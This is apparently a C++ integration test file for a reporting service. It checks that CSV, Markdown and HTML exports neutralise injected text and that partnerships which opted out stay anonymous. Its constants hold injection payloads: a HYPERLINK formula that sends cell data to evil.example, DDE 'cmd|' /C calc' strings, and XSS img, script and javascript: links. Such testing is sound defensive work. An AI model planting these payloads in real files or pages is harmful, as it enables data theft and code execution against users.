// Issue 13, findings 10 to 12, performed against a real hub (identity, framework,
// assessment and reporting on 127.0.0.1 with PostgreSQL, from TestHub) and the reporting
// service's real HTTP endpoint wired as its main wires it:
//  - CSV formula injection: a partnership, an organisation and an action whose texts start
//    formulas are exported as text;
//  - Markdown injection: a round titled, and a partnership named, with HTML and
//    javascript: links give an annual report section (gRPC, Markdown, text and HTML
//    exports) that carries them as text only;
//  - the regional-comparison opt-out: two partnerships that opted out, named so that name
//    order would tell their anonymous rows apart ("aardvark" and "zebra"), as a region's
//    dashboard and viewer see them, and as their members and hub administrators do.
#include <httplib.h>

#include <gmock/gmock.h>
#include <google/protobuf/util/json_util.h>
#include <grpcpp/client_context.h>
#include <grpcpp/create_channel.h>
#include <gtest/gtest.h>

#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <map>
#include <memory>
#include <set>
#include <string>
#include <vector>

#include "absl/strings/match.h"
#include "absl/strings/str_cat.h"
#include "absl/time/clock.h"
#include "absl/time/time.h"
#include "services/common/auth.h"
#include "services/common/db.h"
#include "services/common/status.h"
#include "services/reporting/http_endpoint.h"
#include "services/reporting/read_model.h"
#include "services/reporting/render.h"
#include "services/reporting/reporting_service.h"
#include "tests/support/calls.h"
#include "tests/support/export_text.h"
#include "tests/support/status_matchers.h"
#include "tests/support/test_hub.h"

namespace sixsteps::testing {
namespace {

namespace asv1 = ::sixsteps::assessment::v1;
namespace acv1 = ::sixsteps::action::v1;
namespace fv1 = ::sixsteps::framework::v1;
namespace idv1 = ::sixsteps::identity::v1;
namespace rv1 = ::sixsteps::reporting::v1;
using ::testing::HasSubstr;
using ::testing::Not;
using ::testing::SizeIs;
using Code = absl::StatusCode;
using Role = auth::Role;
using AStub = asv1::AssessmentService::Stub;
using ActStub = acv1::ActionService::Stub;
using RStub = rv1::ReportingService::Stub;
using IdStub = idv1::IdentityService::Stub;

constexpr char kRegion[] = "north";
// Opted out; "aardvark" sorts first by name, but its figures (all Red) sort last.
constexpr char kAardvark[] = "aardvark";
constexpr char kZebra[] = "zebra";   // opted out; all Green
constexpr char kNamed[] = "middle";  // did not opt out; its texts carry the attacks
constexpr char kAsOf[] = "2026-06-30";

// The attacks. The partnership's name starts a formula and carries HTML and a link.
const std::string kNamedPartnership =
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"<img src=x onerror=alert(1)> "
    "[m](javascript:alert(2))\")";
const std::string kOrganisationName = "@SUM(1+1)*cmd|' /C calc'!A0";
const std::string kActionDescription = "+cmd|' /C calc'!A0";
const std::string kRoundTitle =
    "<img src=x onerror=alert(3)> [click](javascript:alert(4)) <script>alert(5)</script>";

std::string P(const std::string& id) { return absl::StrCat("partnerships/", id); }
std::string QuestionId(int i) { return absl::StrCat("s", i / 4 + 1, ".q", i % 4 + 1); }

// With SIXSTEPS_EXPORTS_ARTIFACTS set to a folder, keeps a rendered export there, to
// look at (or screenshot with chromium); otherwise does nothing.
void KeepArtifact(const std::string& name, const std::string& content) {
  const char* dir = std::getenv("SIXSTEPS_EXPORTS_ARTIFACTS");
  if (dir == nullptr || *dir == '\0') return;
  std::ofstream(std::filesystem::path(dir) / name, std::ios::binary) << content;
}

struct World {
  std::unique_ptr<TestHub> hub;
  std::unique_ptr<AStub> assessments;
  std::unique_ptr<ActStub> actions;
  std::unique_ptr<RStub> reporting;
  std::string admin, hub_admin, dashboard, region_viewer, scrutineer;
  std::map<std::string, std::string> member;      // a viewer of each partnership
  std::map<std::string, std::string> respondent;  // the council's respondent of each
  std::map<std::string, asv1::Assessment> round;
  int64_t head = 0;
  // The HTTP endpoint over the hub's read model, as the reporting main wires it.
  std::unique_ptr<db::ConnectionPool> pool;
  std::unique_ptr<reporting::ReadModel> model;
  std::unique_ptr<reporting::Reports> reports;
  std::unique_ptr<auth::TokenVerifier> verifier;
  std::unique_ptr<reporting::HttpEndpoint> http;
};

class ReportingExportsTest : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    world_ = new World();
    setup_ = Build(*world_);
  }
  static void TearDownTestSuite() {
    if (world_->http) world_->http->Stop();
    delete world_;
    world_ = nullptr;
  }
  void SetUp() override { ASSERT_THAT(setup_, IsOk()); }

  // A finalised independent scrutiny of `p` with these 24 consolidated ratings, one action
  // per step described as `description`.
  static absl::StatusOr<asv1::Assessment> Record(World& w, const std::string& p,
                                                 const std::string& title,
                                                 const std::string& ratings,
                                                 const std::string& owner,
                                                 const std::string& description) {
    asv1::Assessment round;
    {
      asv1::CreateAssessmentRequest request =
          RoundRequest(P(p), asv1::ASSESSMENT_KIND_INDEPENDENT_SCRUTINY, title);
      SIXSTEPS_RETURN_IF_ERROR(
          Call(*w.assessments, &AStub::CreateAssessment, w.admin, request, &round));
    }
    {
      asv1::AddRespondentRequest add;
      add.set_parent(round.name());
      add.mutable_respondent()->set_organisation(absl::StrCat(P(p), "/organisations/", owner));
      asv1::Respondent respondent;
      SIXSTEPS_RETURN_IF_ERROR(
          Call(*w.assessments, &AStub::AddRespondent, w.admin, add, &respondent));
      // The organisation answers every question as the consolidation will rate it.
      asv1::BatchUpsertResponsesRequest batch;
      batch.set_parent(round.name());
      for (int i = 0; i < 24; ++i) {
        asv1::Response* response = batch.add_requests()->mutable_response();
        response->set_name(absl::StrCat(respondent.name(), "/responses/", QuestionId(i)));
        response->set_rating(Rate(ratings[i]));
        if (ratings[i] != 'R') response->add_evidence()->set_description("Audit");
        if (ratings[i] == 'A') response->set_remaining_work("Embed it");
      }
      asv1::BatchUpsertResponsesResponse written;
      SIXSTEPS_RETURN_IF_ERROR(
          Call(*w.assessments, &AStub::BatchUpsertResponses, w.respondent.at(p), batch, &written));
      asv1::GetAssessmentRequest get;
      get.set_name(round.name());
      SIXSTEPS_RETURN_IF_ERROR(Call(*w.assessments, &AStub::GetAssessment, w.admin, get, &round));
    }
    {
      asv1::SubmitAssessmentForReviewRequest request;
      request.set_name(round.name());
      request.set_etag(round.etag());
      SIXSTEPS_RETURN_IF_ERROR(
          Call(*w.assessments, &AStub::SubmitAssessmentForReview, w.admin, request, &round));
    }
    for (int i = 0; i < 24; ++i) {
      asv1::ConsolidateQuestionRequest request;
      request.set_parent(round.name());
      asv1::Consolidation* c = request.mutable_consolidation();
      c->set_question_id(QuestionId(i));
      c->set_rating(Rate(ratings[i]));
      c->set_rationale("Seen the evidence");
      if (ratings[i] != 'R') c->add_evidence()->set_description("Case audit");
      if (ratings[i] == 'A') c->set_remaining_work("Finish the audit");
      asv1::Consolidation written;
      SIXSTEPS_RETURN_IF_ERROR(
          Call(*w.assessments, &AStub::ConsolidateQuestion, w.scrutineer, request, &written));
    }
    for (int step = 1; step <= 6; ++step) {
      acv1::CreateActionRequest request;
      acv1::Action* action = request.mutable_action();
      action->set_assessment(round.name());
      action->set_step_id(absl::StrCat("s", step));
      for (int q = 1; q <= 4; ++q) action->add_question_ids(absl::StrCat("s", step, ".q", q));
      action->set_kind(acv1::Action::KIND_IMPROVEMENT);
      action->set_description(description);
      action->set_intended_outcome("Children are safer");
      action->set_owner_organisation(absl::StrCat(P(p), "/organisations/", owner));
      action->set_due_date("2026-01-31");  // overdue as of kAsOf
      acv1::Action created;
      SIXSTEPS_RETURN_IF_ERROR(
          Call(*w.actions, &ActStub::CreateAction, w.admin, request, &created));
    }
    {
      asv1::GetAssessmentRequest get;
      get.set_name(round.name());
      SIXSTEPS_RETURN_IF_ERROR(Call(*w.assessments, &AStub::GetAssessment, w.admin, get, &round));
      asv1::FinaliseAssessmentRequest request;
      request.set_name(round.name());
      request.set_etag(round.etag());
      SIXSTEPS_RETURN_IF_ERROR(
          Call(*w.assessments, &AStub::FinaliseAssessment, w.scrutineer, request, &round));
    }
    return round;
  }

  static absl::Status Build(World& w) {
    SIXSTEPS_ASSIGN_OR_RETURN(w.hub, TestHub::Start("exports"));
    TestHub& hub = *w.hub;
    w.assessments = hub.AssessmentStub();
    w.actions = hub.ActionStub();
    w.admin = hub.admin_token();
    SIXSTEPS_RETURN_IF_ERROR(hub.CreateRegion(kRegion));
    auto identity = hub.IdentityStub();
    for (const char* p : {kAardvark, kZebra, kNamed}) {
      SIXSTEPS_RETURN_IF_ERROR(hub.CreatePartnership(p, kRegion));
      idv1::CreateOrganisationRequest org;
      org.set_parent(P(p));
      org.set_organisation_id("council");
      org.mutable_organisation()->set_display_name(
          std::string(p) == kNamed ? kOrganisationName : std::string("Council of ") + p);
      org.mutable_organisation()->set_kind(idv1::ORGANISATION_KIND_LOCAL_AUTHORITY);
      org.mutable_organisation()->set_core_partner(true);
      idv1::Organisation created;
      SIXSTEPS_RETURN_IF_ERROR(
          Call(*identity, &IdStub::CreateOrganisation, w.admin, org, &created));
      idv1::GetPartnershipRequest get;
      get.set_name(P(p));
      idv1::Partnership stored;
      SIXSTEPS_RETURN_IF_ERROR(Call(*identity, &IdStub::GetPartnership, w.admin, get, &stored));
      idv1::UpdatePartnershipRequest update;
      update.mutable_partnership()->set_etag(stored.etag());
      if (std::string(p) == kNamed) {
        update.mutable_partnership()->set_display_name(kNamedPartnership);
        update.mutable_update_mask()->add_paths("display_name");
      } else {
        update.mutable_partnership()->set_regional_comparison_opt_out(true);
        update.mutable_update_mask()->add_paths("regional_comparison_opt_out");
      }
      update.mutable_partnership()->set_name(P(p));
      idv1::Partnership updated;
      SIXSTEPS_RETURN_IF_ERROR(
          Call(*identity, &IdStub::UpdatePartnership, w.admin, update, &updated));
      SIXSTEPS_ASSIGN_OR_RETURN(w.respondent[p],
                                hub.UserWithRoles(absl::StrCat("council@", p, ".test"),
                                                  {{Role::ROLE_PARTNER_RESPONDENT, P(p),
                                                    absl::StrCat(P(p),
                                                                 "/organisations/"
                                                                 "council")}}));
      SIXSTEPS_ASSIGN_OR_RETURN(w.member[p], hub.UserWithRoles(absl::StrCat("viewer@", p, ".test"),
                                                               {{Role::ROLE_VIEWER, P(p), ""}}));
    }
    const std::string region = absl::StrCat("regions/", kRegion);
    SIXSTEPS_ASSIGN_OR_RETURN(
        w.scrutineer, hub.UserWithRoles("scrutineer@north.test",
                                        {{Role::ROLE_INDEPENDENT_SCRUTINEER, P(kAardvark), ""},
                                         {Role::ROLE_INDEPENDENT_SCRUTINEER, P(kZebra), ""},
                                         {Role::ROLE_INDEPENDENT_SCRUTINEER, P(kNamed), ""}}));
    SIXSTEPS_ASSIGN_OR_RETURN(
        w.hub_admin,
        hub.UserWithRoles("hub@north.test", {{Role::ROLE_HUB_ADMINISTRATOR, region, ""}}));
    SIXSTEPS_ASSIGN_OR_RETURN(w.dashboard, hub.UserWithRoles("dashboard@north.test",
                                                             {{Role::ROLE_DASHBOARD, region, ""}}));
    SIXSTEPS_ASSIGN_OR_RETURN(
        w.region_viewer, hub.UserWithRoles("viewer@north.test", {{Role::ROLE_VIEWER, region, ""}}));

    // Aardvark all Red, Zebra all Green: by their figures Zebra's row comes first.
    SIXSTEPS_ASSIGN_OR_RETURN(w.round[kAardvark],
                              Record(w, kAardvark, "Aardvark scrutiny", std::string(24, 'R'),
                                     "council", "Aardvark's plan"));
    SIXSTEPS_ASSIGN_OR_RETURN(
        w.round[kZebra],
        Record(w, kZebra, "Zebra scrutiny", std::string(24, 'G'), "council", "Zebra's plan"));
    SIXSTEPS_ASSIGN_OR_RETURN(
        w.round[kNamed],
        Record(w, kNamed, kRoundTitle, "GARAGARAGARAGARAGARAGARA", "council", kActionDescription));

    SIXSTEPS_RETURN_IF_ERROR(hub.StartReporting());
    w.reporting = hub.ReportingStub();
    SIXSTEPS_ASSIGN_OR_RETURN(w.head, hub.FeedHead());

    // The HTTP endpoint on the same read model, with the same Reports and a verifier of
    // identity's keys.
    w.pool = std::make_unique<db::ConnectionPool>(hub.reporting_database_url(), 2);
    w.model = std::make_unique<reporting::ReadModel>(w.pool.get());
    w.reports = std::make_unique<reporting::Reports>(w.model.get(), absl::UTCTimeZone());
    w.verifier = std::make_unique<auth::TokenVerifier>(std::make_shared<auth::IdentityPublicKeys>(
        grpc::CreateChannel(hub.identity_target(), grpc::InsecureChannelCredentials())));
    reporting::Reports* reports = w.reports.get();
    w.http = std::make_unique<reporting::HttpEndpoint>(
        w.verifier.get(),
        [reports](const auth::Caller& caller,
                  const rv1::ExportReportRequest& request) -> absl::StatusOr<reporting::Rendered> {
          auto exported = reports->Render(caller, request, absl::Now() + absl::Seconds(30));
          if (!exported.ok()) return exported.status();
          return reporting::Rendered{exported->content, exported->content_type, exported->filename};
        });
    return w.http->Start("127.0.0.1", 0);
  }

  // ---- Reports over gRPC, at the feed head ----

  static absl::Status Overview(const std::string& token, rv1::RegionalOverview* overview) {
    rv1::GetRegionalOverviewRequest request;
    request.set_region(absl::StrCat("regions/", kRegion));
    request.set_min_sequence(world_->head);
    request.set_as_of_date(kAsOf);
    return Call(*world_->reporting, &RStub::GetRegionalOverview, token, request, overview);
  }
  static absl::Status Report(const std::string& token, const std::string& assessment) {
    rv1::GetAssessmentReportRequest request;
    request.set_assessment(assessment);
    request.set_min_sequence(world_->head);
    rv1::AssessmentReport report;
    return Call(*world_->reporting, &RStub::GetAssessmentReport, token, request, &report);
  }
  static absl::Status Trend(const std::string& token, const std::string& partnership) {
    rv1::GetPartnershipTrendRequest request;
    request.set_partnership(partnership);
    request.set_min_sequence(world_->head);
    rv1::PartnershipTrend trend;
    return Call(*world_->reporting, &RStub::GetPartnershipTrend, token, request, &trend);
  }
  static absl::Status Tracker(const std::string& token, const std::string& scope,
                              rv1::ActionTracker* tracker) {
    rv1::GetActionTrackerRequest request;
    request.set_scope(scope);
    request.set_min_sequence(world_->head);
    request.set_as_of_date(kAsOf);
    return Call(*world_->reporting, &RStub::GetActionTracker, token, request, tracker);
  }
  static absl::Status Annual(const std::string& token, const std::string& assessment,
                             rv1::AnnualReportSection* section) {
    rv1::GetAnnualReportSectionRequest request;
    request.set_assessment(assessment);
    request.set_min_sequence(world_->head);
    return Call(*world_->reporting, &RStub::GetAnnualReportSection, token, request, section);
  }
  static absl::StatusOr<std::string> Export(const std::string& token,
                                            rv1::ExportReportRequest request, rv1::Format format) {
    request.set_format(format);
    rv1::ExportReportResponse exported;
    SIXSTEPS_RETURN_IF_ERROR(
        Call(*world_->reporting, &RStub::ExportReport, token, request, &exported));
    return exported.content();
  }
  static rv1::ExportReportRequest AssessmentExport(const std::string& assessment) {
    rv1::ExportReportRequest request;
    request.mutable_assessment()->set_assessment(assessment);
    request.mutable_assessment()->set_min_sequence(world_->head);
    request.mutable_assessment()->set_as_of_date(kAsOf);
    return request;
  }
  static rv1::ExportReportRequest RegionExport() {
    rv1::ExportReportRequest request;
    request.mutable_region()->set_region(absl::StrCat("regions/", kRegion));
    request.mutable_region()->set_min_sequence(world_->head);
    request.mutable_region()->set_as_of_date(kAsOf);
    return request;
  }
  static rv1::ExportReportRequest TrackerExport(const std::string& scope) {
    rv1::ExportReportRequest request;
    request.mutable_actions()->set_scope(scope);
    request.mutable_actions()->set_min_sequence(world_->head);
    request.mutable_actions()->set_as_of_date(kAsOf);
    return request;
  }
  static rv1::ExportReportRequest AnnualExport(const std::string& assessment) {
    rv1::ExportReportRequest request;
    request.mutable_annual()->set_assessment(assessment);
    request.mutable_annual()->set_min_sequence(world_->head);
    return request;
  }

  // ---- The same over HTTP ----

  static httplib::Result Get(const std::string& token, const std::string& path) {
    httplib::Client client("127.0.0.1", world_->http->port());
    client.set_read_timeout(std::chrono::seconds(60));
    return client.Get(path, {{"Authorization", "Bearer " + token}});
  }

  static World* world_;
  static absl::Status setup_;
};

World* ReportingExportsTest::world_ = nullptr;
absl::Status ReportingExportsTest::setup_;

// ---- Finding 10: CSV formula injection ----

TEST_F(ReportingExportsTest, CsvExportsCarryFormulasAsText) {
  const World& w = *world_;
  std::vector<std::string> csvs;
  for (const rv1::ExportReportRequest& request :
       {AssessmentExport(w.round.at(kNamed).name()), RegionExport(), TrackerExport(P(kNamed)),
        TrackerExport(absl::StrCat("regions/", kRegion)),
        AnnualExport(w.round.at(kNamed).name())}) {
    absl::StatusOr<std::string> csv = Export(w.hub_admin, request, rv1::FORMAT_CSV);
    ASSERT_THAT(csv, IsOk());
    csvs.push_back(*csv);
  }
  // Every cell: never the start of a formula; the attacks there with a quote in front.
  std::set<std::string> cells;
  for (const std::string& csv : csvs) {
    for (const auto& record : ParseCsv(csv)) {
      for (const std::string& cell : record) {
        EXPECT_FALSE(reporting::CsvCellStartsFormula(cell)) << cell;
        cells.insert(cell);
      }
    }
  }
  EXPECT_TRUE(cells.contains("'" + kNamedPartnership));
  EXPECT_TRUE(cells.contains("'" + kOrganisationName));
  EXPECT_TRUE(cells.contains("'" + kActionDescription));
  EXPECT_FALSE(cells.contains(kActionDescription));

  // Over HTTP too.
  httplib::Result got = Get(w.hub_admin, absl::StrCat("/v1/partnerships/", kNamed,
                                                      "/actions?format=csv&as_of_date=", kAsOf,
                                                      "&min_sequence=", w.head));
  ASSERT_TRUE(got);
  ASSERT_EQ(got->status, 200) << got->body;
  bool found = false;
  for (const auto& record : ParseCsv(got->body)) {
    for (const std::string& cell : record) {
      EXPECT_FALSE(reporting::CsvCellStartsFormula(cell)) << cell;
      found |= cell == "'" + kActionDescription;
    }
  }
  EXPECT_TRUE(found) << got->body;
}

// ---- Finding 11: Markdown injection in the annual report section ----

TEST_F(ReportingExportsTest, AnnualSectionCarriesTitlesAndNamesAsText) {
  const World& w = *world_;
  rv1::AnnualReportSection section;
  ASSERT_THAT(Annual(w.member.at(kNamed), w.round.at(kNamed).name(), &section), IsOk());
  std::vector<std::pair<std::string, std::string>> outputs = {{"grpc", section.markdown()}};
  absl::StatusOr<std::string> markdown =
      Export(w.member.at(kNamed), AnnualExport(w.round.at(kNamed).name()), rv1::FORMAT_MARKDOWN);
  ASSERT_THAT(markdown, IsOk());
  outputs.push_back({"markdown", *markdown});
  // Plain text is not Markdown (issue 15): the words as they are, without backslash escapes,
  // and nothing a terminal would act on.
  absl::StatusOr<std::string> text =
      Export(w.member.at(kNamed), AnnualExport(w.round.at(kNamed).name()), rv1::FORMAT_TEXT);
  ASSERT_THAT(text, IsOk());
  EXPECT_THAT(*text, HasSubstr("onerror=alert(3)>"));
  EXPECT_THAT(*text, HasSubstr("[click](javascript:alert(4))"));
  EXPECT_THAT(*text, Not(HasSubstr("\\[")));
  for (char c : *text) {
    EXPECT_TRUE(c == '\n' || static_cast<unsigned char>(c) >= 0x20) << static_cast<int>(c);
  }
  for (const auto& [what, md] : outputs) {
    EXPECT_THAT(md, HasSubstr("onerror=alert(3)")) << what << ": the words are there";
    for (const char* raw : {"<img", "<script"}) {
      EXPECT_THAT(md, Not(HasSubstr(raw))) << what << ": " << raw;
    }
    for (const char* markup : {"[", "](", "]"}) {
      EXPECT_FALSE(HasUnescaped(md, markup)) << what << ": " << markup << " in\n" << md;
    }
  }
  // The HTML export of the section: nothing runs, nothing links.
  absl::StatusOr<std::string> html =
      Export(w.member.at(kNamed), AnnualExport(w.round.at(kNamed).name()), rv1::FORMAT_HTML);
  ASSERT_THAT(html, IsOk());
  KeepArtifact("annual-section.html", *html);
  EXPECT_THAT(*html, HasSubstr("&lt;img src=x onerror=alert(3)&gt;"));
  for (const char* tag : {"<img", "<script", "<a ", "href=", "javascript:alert(4)\""}) {
    EXPECT_THAT(*html, Not(HasSubstr(tag))) << tag;
  }
  // And over HTTP.
  httplib::Result got =
      Get(w.member.at(kNamed), absl::StrCat("/v1/", w.round.at(kNamed).name(),
                                            "/annual-report?format=md&min_sequence=", w.head));
  ASSERT_TRUE(got);
  ASSERT_EQ(got->status, 200) << got->body;
  EXPECT_THAT(got->body, Not(HasSubstr("<img")));
  EXPECT_FALSE(HasUnescaped(got->body, "](")) << got->body;
}

// ---- Finding 12: the regional-comparison opt-out ----

TEST_F(ReportingExportsTest, ARegionsDashboardSeesOptedOutPartnershipsOnlyAsAnonymousRows) {
  const World& w = *world_;
  for (const std::string* token : {&w.dashboard, &w.region_viewer}) {
    rv1::RegionalOverview overview;
    ASSERT_THAT(Overview(*token, &overview), IsOk());
    ASSERT_THAT(overview.partnerships(), SizeIs(3));
    EXPECT_EQ(overview.partnerships(0).partnership(), P(kNamed)) << "named rows first";
    EXPECT_FALSE(overview.partnerships(0).anonymous());
    const rv1::RegionalRow& first = overview.partnerships(1);
    const rv1::RegionalRow& second = overview.partnerships(2);
    for (const rv1::RegionalRow* row : {&first, &second}) {
      EXPECT_TRUE(row->anonymous());
      EXPECT_EQ(row->partnership(), "");
      EXPECT_EQ(row->assessment(), "");
      EXPECT_EQ(row->last_scrutiny_date(), "");
      EXPECT_THAT(row->partnership_name(), HasSubstr("anonymous"));
      EXPECT_EQ(row->overdue_actions(), 6);
    }
    // By name, Aardvark's row would come first; by figures, Zebra's (all Green) does.
    EXPECT_EQ(first.counts().green(), 24);
    EXPECT_EQ(second.counts().red(), 24);

    // Nothing that names them in any export.
    for (rv1::Format format : {rv1::FORMAT_JSON, rv1::FORMAT_CSV, rv1::FORMAT_HTML,
                               rv1::FORMAT_MARKDOWN, rv1::FORMAT_TEXT}) {
      absl::StatusOr<std::string> exported = Export(*token, RegionExport(), format);
      ASSERT_THAT(exported, IsOk());
      if (format == rv1::FORMAT_HTML && token == &w.dashboard) {
        KeepArtifact("overview-dashboard.html", *exported);
      }
      for (const char* name : {kAardvark, kZebra}) {
        EXPECT_THAT(*exported, Not(HasSubstr(name))) << format;
      }
    }
    // The region's tracker leaves their actions out.
    rv1::ActionTracker tracker;
    ASSERT_THAT(Tracker(*token, absl::StrCat("regions/", kRegion), &tracker), IsOk());
    EXPECT_EQ(tracker.counts().open(), 6) << "the named partnership's six actions only";
    absl::StatusOr<std::string> csv =
        Export(*token, TrackerExport(absl::StrCat("regions/", kRegion)), rv1::FORMAT_CSV);
    ASSERT_THAT(csv, IsOk());
    for (const char* name : {kAardvark, kZebra, "Aardvark", "Zebra"}) {
      EXPECT_THAT(*csv, Not(HasSubstr(name)));
    }
  }
}

TEST_F(ReportingExportsTest, AnOptedOutPartnershipsOwnReportsAreNotFoundToTheRegion) {
  const World& w = *world_;
  for (const std::string* token : {&w.dashboard, &w.region_viewer}) {
    for (const char* p : {kAardvark, kZebra}) {
      const std::string round = w.round.at(p).name();
      EXPECT_THAT(Report(*token, round), StatusIs(Code::kNotFound)) << p;
      EXPECT_THAT(Trend(*token, P(p)), StatusIs(Code::kNotFound)) << p;
      rv1::ActionTracker tracker;
      EXPECT_THAT(Tracker(*token, P(p), &tracker), StatusIs(Code::kNotFound)) << p;
      rv1::AnnualReportSection section;
      EXPECT_THAT(Annual(*token, round, &section), StatusIs(Code::kNotFound)) << p;
      rv1::ExportReportRequest trend;
      trend.mutable_trend()->set_partnership(P(p));
      EXPECT_THAT(Export(*token, trend, rv1::FORMAT_CSV), StatusIs(Code::kNotFound)) << p;
      EXPECT_THAT(Export(*token, TrackerExport(P(p)), rv1::FORMAT_CSV), StatusIs(Code::kNotFound))
          << p;
      // Over HTTP: 404, as for what does not exist.
      for (const std::string& path :
           {absl::StrCat("/v1/", round, "/report?min_sequence=", w.head),
            absl::StrCat("/v1/partnerships/", p, "/trend?min_sequence=", w.head),
            absl::StrCat("/v1/partnerships/", p, "/actions?format=csv&min_sequence=", w.head),
            absl::StrCat("/v1/", round, "/annual-report?format=md&min_sequence=", w.head)}) {
        httplib::Result got = Get(*token, path);
        ASSERT_TRUE(got) << path;
        EXPECT_EQ(got->status, 404) << path << ": " << got->body;
      }
    }
    // The partnership that did not opt out they read.
    EXPECT_THAT(Report(*token, w.round.at(kNamed).name()), IsOk());
    EXPECT_THAT(Trend(*token, P(kNamed)), IsOk());
  }
}

TEST_F(ReportingExportsTest, MembersAndHubAdministratorsStillSeeEverything) {
  const World& w = *world_;
  // Hub administrators: every partnership named, every report, every action.
  for (const std::string* token : {&w.hub_admin, &w.admin}) {
    rv1::RegionalOverview overview;
    ASSERT_THAT(Overview(*token, &overview), IsOk());
    ASSERT_THAT(overview.partnerships(), SizeIs(3));
    for (const rv1::RegionalRow& row : overview.partnerships()) {
      EXPECT_FALSE(row.anonymous()) << row.partnership_name();
      EXPECT_FALSE(row.partnership().empty());
    }
    for (const char* p : {kAardvark, kZebra}) {
      EXPECT_THAT(Report(*token, w.round.at(p).name()), IsOk()) << p;
      EXPECT_THAT(Trend(*token, P(p)), IsOk()) << p;
    }
    rv1::ActionTracker tracker;
    ASSERT_THAT(Tracker(*token, absl::StrCat("regions/", kRegion), &tracker), IsOk());
    EXPECT_EQ(tracker.counts().open(), 18);
  }
  // A member of Aardvark: its own reports, and its own row named. Zebra would be the one
  // anonymous row left, which elimination would name: it is left out.
  const std::string& member = w.member.at(kAardvark);
  EXPECT_THAT(Report(member, w.round.at(kAardvark).name()), IsOk());
  EXPECT_THAT(Trend(member, P(kAardvark)), IsOk());
  rv1::ActionTracker tracker;
  EXPECT_THAT(Tracker(member, P(kAardvark), &tracker), IsOk());
  EXPECT_EQ(tracker.counts().open(), 6);
  rv1::RegionalOverview overview;
  ASSERT_THAT(Overview(member, &overview), IsOk());
  std::vector<std::string> shown;
  for (const rv1::RegionalRow& row : overview.partnerships()) shown.push_back(row.partnership());
  EXPECT_THAT(shown, ::testing::UnorderedElementsAre(P(kNamed), P(kAardvark)));
  httplib::Result got = Get(member, absl::StrCat("/v1/partnerships/", kAardvark,
                                                 "/trend?format=csv&min_sequence=", w.head));
  ASSERT_TRUE(got);
  EXPECT_EQ(got->status, 200) << got->body;
  // Not Zebra's, though.
  EXPECT_THAT(Trend(member, P(kZebra)), StatusIs(Code::kNotFound));
}

}  // namespace
}  // namespace sixsteps::testing
